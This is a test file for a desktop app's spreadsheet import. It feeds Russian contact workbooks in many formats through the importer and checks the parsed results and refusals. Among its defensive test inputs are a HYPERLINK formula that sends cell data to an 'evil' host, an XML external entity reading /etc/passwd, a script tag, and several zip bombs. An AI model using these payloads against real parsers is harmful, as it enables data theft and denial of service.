import * as oracle from '@e965/xlsx';
import { writeOds, writeXlsx } from 'hucre';
import { describe, expect, it } from 'vitest';
import { openSpreadsheet } from '../../../electron/import/open-spreadsheet.ts';
import { cellText } from '../../../shared/import/table.ts';
import { AppFailure } from '../../../shared/result.ts';
import { makeWorkbook, makeZip } from '../../fixtures/import/containers.ts';
import { encode } from '../../fixtures/import/encode.ts';
import { codes, importInto, MemoryVault } from '../../fixtures/import/work.ts';

const HEADER = ['ФИО', 'Организация', 'Телефон', 'E-mail', 'Дата рождения', 'Комментарий'];
const ROWS = [
  ['Щукин Пётр Ильич', 'ООО «Вектор»', '+7 916 123-45-67', 'p@x.ru', '01.02.1980', 'первый'],
  ['Жданова Алёна', 'АО Луч', '8 903 123-45-67', 'a@x.ru', '29.02.1984', 'вторая'],
];
const bytesOf = (book: oracle.WorkBook, type: oracle.BookType): Uint8Array =>
  new Uint8Array(oracle.write(book, { type: 'buffer', bookType: type }) as Buffer);
const bookOf = (rows: readonly (readonly unknown[])[], sheet = 'Лист1'): oracle.WorkBook => {
  const book = oracle.utils.book_new();
  oracle.utils.book_append_sheet(book, oracle.utils.aoa_to_sheet(rows as unknown[][]), sheet);
  return book;
};
/** Turns a cell into a number with a date format, or another typed cell. */
function setCell(book: oracle.WorkBook, address: string, cell: oracle.CellObject): void {
  (book.Sheets[book.SheetNames[0] as string] as oracle.WorkSheet)[address] = cell;
}
async function refusal(bytes: Uint8Array, name = 'file.xlsx'): Promise<string> {
  try {
    await openSpreadsheet(bytes, name);
    return 'opened';
  } catch (error) {
    expect(error).toBeInstanceOf(AppFailure);
    return (error as AppFailure).error.code;
  }
}

describe('workbooks', () => {
  it.each([
    ['XLSX of SheetJS', 'xlsx', () => bytesOf(bookOf([HEADER, ...ROWS]), 'xlsx')],
    ['XLS of SheetJS', 'xls', () => bytesOf(bookOf([HEADER, ...ROWS]), 'biff8')],
    ['ODS of SheetJS', 'ods', () => bytesOf(bookOf([HEADER, ...ROWS]), 'ods')],
    ['XLSX of hucre', 'xlsx', () => writeXlsx({ sheets: [{ name: 'Лист1', rows: [HEADER, ...ROWS] }] })],
    ['ODS of hucre', 'ods', () => writeOds({ sheets: [{ name: 'Лист1', rows: [HEADER, ...ROWS] }] })],
  ])('%s comes in whole', async (_, kind, make) => {
    const { reading, rows, vault } = await importInto(new MemoryVault(), new Uint8Array(await make()), {
      name: 'book',
    });
    expect(reading).toMatchObject({ kind, sheet: 'Лист1', headerRow: 1, encodingSure: true });
    expect(reading.columns.map((column) => column.field)).toEqual([
      'name.full',
      'org.name',
      'phone',
      'email',
      'birthday',
      'notes',
    ]);
    expect(rows).toMatchObject({ read: 2, created: 2 });
    expect(vault.people.map((person) => person['birthday'])).toEqual(['1980-02-01', '1984-02-29']);
  });
  it.each([
    [false, 45658, '2025-01-01'],
    [true, 44196, '2025-01-01'],
    [false, 1, '1900-01-01'],
    [false, 61, '1900-03-01'],
  ])('reads day numbers with 1904 %s: %i is %s', async (date1904, serial, expected) => {
    const book = bookOf([
      ['ФИО', 'Дата рождения'],
      ['Щукин Пётр', ''],
    ]);
    book.Workbook = { WBProps: { date1904 } };
    setCell(book, 'B2', { t: 'n', v: serial, z: 'dd.mm.yyyy' });
    for (const type of ['xlsx', 'biff8'] as const) {
      const { vault } = await importInto(new MemoryVault(), bytesOf(book, type), { name: 'b' });
      expect(vault.people[0]?.['birthday']).toBe(expected);
    }
  });
  it('asks about the 29th of February 1900', async () => {
    const book = bookOf([
      ['ФИО', 'Дата рождения'],
      ['Щукин Пётр', ''],
    ]);
    setCell(book, 'B2', { t: 'n', v: 60, z: 'dd.mm.yyyy' });
    const { plan, vault } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
    expect(codes(plan)).toContain('2:dateSerial60');
    expect(vault.people[0]).not.toHaveProperty('birthday');
  });
  it('takes telephones and codes from the raw number, not from its picture', async () => {
    const book = bookOf([
      ['ФИО', 'Организация', 'Телефон', 'ИНН'],
      ['Щукин Пётр', 'ООО Вектор', 0, 0],
    ]);
    setCell(book, 'C2', { t: 'n', v: 79161234567, z: '0.00E+00' });
    setCell(book, 'D2', { t: 'n', v: 7707083893 });
    const { vault } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
    expect(JSON.stringify(vault.people[0])).toContain('"e164":"+79161234567"');
    expect(vault.organisations[0]?.['legalIds']).toEqual({ inn: '7707083893' });
  });
  it('says what was hidden and reads the visible sheet and rows', async () => {
    const book = bookOf([HEADER, ...ROWS], 'Видимый');
    oracle.utils.book_append_sheet(book, oracle.utils.aoa_to_sheet([['ФИО'], ['Тайный Человек']]), 'Скрытый');
    book.Workbook = { Sheets: [{ Hidden: 0 }, { Hidden: 1 }] };
    (book.Sheets['Видимый'] as oracle.WorkSheet)['!rows'] = [{}, { hidden: true }];
    const { reading, vault, plan } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
    expect(reading.sheet).toBe('Видимый');
    expect(reading.sheets).toEqual([
      { name: 'Видимый', rows: 3, hidden: false },
      { name: 'Скрытый', rows: 2, hidden: true },
    ]);
    expect(reading.problems.map((problem) => problem.code)).toEqual(['hiddenSheets', 'hiddenRows']);
    expect(vault.people).toHaveLength(1);
    expect(codes(plan)).toContain('2:skippedHidden');
    const chosen = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b', sheet: 'Скрытый' });
    expect(chosen.vault.people).toHaveLength(1);
    await expect(
      importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b', sheet: 'Нет' }),
    ).rejects.toMatchObject({ error: { code: 'import.noSuchSheet', params: { sheets: 'Видимый, Скрытый' } } });
  });
  it('joins merged headers and keeps links, remarks and errors of cells', async () => {
    const book = bookOf([
      ['ФИО', 'Адрес', '', 'Связь', 'Сумма'],
      ['', 'Город', 'Улица', '', ''],
      ['Щукин Пётр', 'Уфа', 'Мира 1', 'написать', ''],
    ]);
    const sheet = book.Sheets['Лист1'] as oracle.WorkSheet;
    sheet['!merges'] = [
      { s: { r: 0, c: 1 }, e: { r: 0, c: 2 } },
      { s: { r: 0, c: 0 }, e: { r: 1, c: 0 } },
    ];
    setCell(book, 'D3', { t: 's', v: 'написать', l: { Target: 'mailto:p@x.ru' }, c: [{ a: 'я', t: 'звонить утром' }] });
    setCell(book, 'E3', { t: 'e', v: 0x2a });
    const { reading, vault, plan } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
    expect(reading.columns.map((column) => column.header)).toEqual([
      'ФИО',
      'Адрес / Город',
      'Адрес / Улица',
      'Связь',
      'Сумма',
    ]);
    expect(vault.people[0]).toMatchObject({
      emails: { 'p@x.ru': { value: 'p@x.ru' } },
      summary: 'звонить утром\n\nнаписать',
    });
    expect(codes(plan)).toContain('3:errorCell');
  });
  it.each(['xlsx', 'xls', 'ods'] as const)(
    'keeps merges and row numbers right below blank rows of %s',
    async (type) => {
      const book = bookOf([
        ['База клиентов на 01.03.2026'],
        [],
        ['Организация', 'Контактное лицо', '', 'Телефон'],
        ['', 'ФИО', 'Должность', ''],
        ['ООО Луч', 'Иванов Иван', 'Директор', 79161234567],
        [],
        ['Организация', 'ФИО', 'Должность', 'Телефон'],
        ['АО Мир', 'Носов Пётр', 'Менеджер', 79161234568],
      ]);
      (book.Sheets['Лист1'] as oracle.WorkSheet)['!merges'] = [
        { s: { r: 2, c: 1 }, e: { r: 2, c: 2 } },
        { s: { r: 2, c: 0 }, e: { r: 3, c: 0 } },
      ];
      const { reading, plan, rows } = await importInto(new MemoryVault(), bytesOf(book, type), { name: `b.${type}` });
      expect(reading.headerRow).toBe(4);
      expect(reading.columns.map((column) => column.field)).toEqual(['org.name', 'name.full', 'jobTitle', 'phone']);
      expect(rows).toMatchObject({ created: 2, skipped: 1 });
      expect(codes(plan)).toContain('7:skippedRepeatedHeader');
    },
  );
  it('reads formulas only by their last value', async () => {
    const book = bookOf([
      ['ФИО', 'Комментарий'],
      ['Щукин Пётр', ''],
      ['Жданова Алёна', ''],
    ]);
    setCell(book, 'B2', { t: 's', v: 'итог', f: '"и"&"тог"' });
    setCell(book, 'B3', { t: 'n', f: 'HYPERLINK("http://evil/?"&A1)' });
    const { vault } = await importInto(new MemoryVault(), bytesOf(book, 'xlsx'), { name: 'b' });
    expect(vault.people.map((person) => person['summary'])).toEqual(['итог', undefined]);
  });
});

describe('tables in other clothes', () => {
  it('reads HTML that is called .xls, with spans, entities and its own encoding', async () => {
    const html =
      '<html><head><meta charset="windows-1251"></head><body><script>alert(1)</script><table><tr><th rowspan="2">ФИО</th><th colspan="2">Телефон</th></tr><tr><th>Рабочий</th><th>Мобильный</th></tr><tr><td>Щукин&nbsp;Пётр</td><td>84951234567</td><td><a href="tel:1">89161234567</a></td></tr></table></body></html>';
    const { reading, vault } = await importInto(new MemoryVault(), encode(html, 'windows-1251'), {
      name: 'report.xls',
    });
    expect(reading).toMatchObject({ kind: 'html', encoding: 'windows-1251', headerRow: 2 });
    expect(reading.columns.map((column) => column.field)).toEqual(['name.full', 'phone.work', 'phone.mobile']);
    expect(vault.people[0]).toMatchObject({ name: { family: 'Щукин', given: 'Пётр' } });
  });
  it('reads SpreadsheetML of 2003', async () => {
    const xml =
      '<?xml version="1.0" encoding="UTF-8"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Люди"><Table><Row><Cell><Data ss:Type="String">ФИО</Data></Cell><Cell ss:Index="3"><Data ss:Type="String">ДР</Data></Cell></Row><Row><Cell><Data ss:Type="String">Щукин Пётр</Data></Cell><Cell ss:Index="3"><Data ss:Type="DateTime">1980-02-01T00:00:00.000</Data></Cell></Row></Table></Worksheet></Workbook>';
    const { reading, vault } = await importInto(new MemoryVault(), xml, { name: 'old.xml' });
    expect(reading.sheet).toBe('Люди');
    expect(vault.people[0]).toMatchObject({ birthday: '1980-02-01' });
  });
  it('reads XLSX that is called .csv, and CSV that is called .xlsx', async () => {
    expect((await openSpreadsheet(bytesOf(bookOf([HEADER, ...ROWS]), 'xlsx'), 'contacts.csv')).kind).toBe('xlsx');
    expect((await openSpreadsheet(encode('Имя;Тел\nПётр;1\n', 'utf-8'), 'contacts.xlsx')).kind).toBe('csv');
  });
});

describe('files that are refused', () => {
  it.each([
    ['an empty file', new Uint8Array(0), 'import.empty'],
    ['blank lines', encode('\n\n  \n', 'utf-8'), 'import.empty'],
    ['a picture', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0]), 'import.notASpreadsheet'],
    ['a PDF', encode('%PDF-1.7 …', 'utf-8'), 'import.notASpreadsheet'],
    ['words called a workbook', encode('this is not a spreadsheet', 'utf-8'), 'import.notASpreadsheet'],
    ['noise', Uint8Array.from({ length: 500 }, (_, i) => (i * 37) % 251), 'import.notASpreadsheet'],
    [
      'a zip of something else',
      makeZip([
        { name: 'word/document.xml', content: '<w/>' },
        { name: '[Content_Types].xml', content: '<Types/>' },
      ]),
      'import.notASpreadsheet',
    ],
    ['a Numbers document', makeZip([{ name: 'Index/Document.iwa', content: 'x' }]), 'import.numbers'],
    ['a locked zip', makeZip([{ name: 'xl/workbook.xml', content: '<x/>' }], { flags: 1 }), 'import.encrypted'],
    [
      'a document type inside',
      makeWorkbook('<sheetData/>', {
        prolog: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
      }),
      'import.forbiddenXml',
    ],
    ['claims of 4 GB', makeZip([{ name: 'xl/workbook.xml', content: 'x', claims: 4_000_000_000 }]), 'import.zipBomb'],
    [
      '6,000 entries',
      makeZip(Array.from({ length: 6000 }, (_, i) => ({ name: `xl/${i}.xml`, content: '' }))),
      'import.zipBomb',
    ],
    [
      'overlapping entries',
      makeZip(
        [
          { name: 'xl/a.xml', content: '<a/>'.repeat(100) },
          { name: 'xl/b.xml', content: '<a/>'.repeat(100) },
        ],
        { overlap: true },
      ),
      'import.zipBomb',
    ],
  ])('%s', async (_, bytes, code) => {
    expect(await refusal(bytes)).toBe(code);
  });
  it('a bomb that lies about its size, by what it really expands to', async () => {
    const bomb = makeZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'xl/worksheets/sheet1.xml', content: new Uint8Array(210_000_000), claims: 1000 },
    ]);
    expect(bomb.length).toBeLessThan(1_000_000);
    expect(await refusal(bomb)).toBe('import.zipBomb');
  });
  it('a bomb that says what it is, before anything is inflated', async () => {
    const bomb = makeZip([
      { name: 'xl/workbook.xml', content: '<x/>' },
      { name: 'xl/worksheets/sheet1.xml', content: new Uint8Array(30_000_000) },
    ]);
    expect(await refusal(bomb)).toBe('import.zipBomb');
    // With contents that cannot be inflated the answer is the same: nobody has tried.
    bomb.fill(0xff, bomb.length / 4, bomb.length / 2);
    expect(await refusal(bomb)).toBe('import.zipBomb');
  });
  it('16,384 columns', async () => {
    const wide = Array.from({ length: 16_384 }, (_, i) => `c${i}`);
    expect(await refusal(bytesOf(bookOf([wide, wide]), 'xlsx'))).toBe('import.tooManyColumns');
    expect(await refusal(encode(`${wide.join(';')}\n`, 'utf-8'), 'x.csv')).toBe('import.tooManyColumns');
  });
  it('but not a stray cell in the last column of the last row', async () => {
    const book = await openSpreadsheet(
      makeWorkbook(
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ФИО</t></is></c><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Щукин Пётр</t></is></c></row></sheetData>',
      ),
      'x.xlsx',
    );
    expect(book.tables[0]?.rows[1]?.map(cellText)).toEqual(['Щукин Пётр']);
  });
  it('a workbook cut in half', async () => {
    const bytes = bytesOf(bookOf([HEADER, ...ROWS]), 'xlsx');
    expect(await refusal(bytes.subarray(0, bytes.length / 2))).toBe('import.damaged');
  });
  it('a workbook with any byte broken is refused or read, and never throws anything else', async () => {
    const bytes = bytesOf(bookOf([HEADER, ...ROWS]), 'xlsx');
    for (let k = 0; k < 200; k += 1) {
      const broken = Uint8Array.from(bytes);
      broken[(k * 7919) % broken.length] = (k * 31) & 255;
      expect(await refusal(broken)).toMatch(/^(?:opened|import\.\w+)$/);
    }
  });
  it('a password-protected workbook', async () => {
    const locked = await writeXlsx({
      sheets: [{ name: 'A', rows: [HEADER] }],
      encryption: { password: 'secret', spinCount: 1000 },
    });
    expect(await refusal(new Uint8Array(locked))).toBe('import.encrypted');
  });
});
